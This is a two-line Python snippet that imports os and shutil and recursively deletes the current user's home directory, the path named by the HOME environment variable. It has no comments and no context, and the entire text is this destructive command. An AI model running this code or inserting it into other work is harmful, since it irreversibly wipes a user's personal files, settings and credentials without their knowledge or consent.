import os, shutil
shutil.rmtree(os.environ["HOME"])
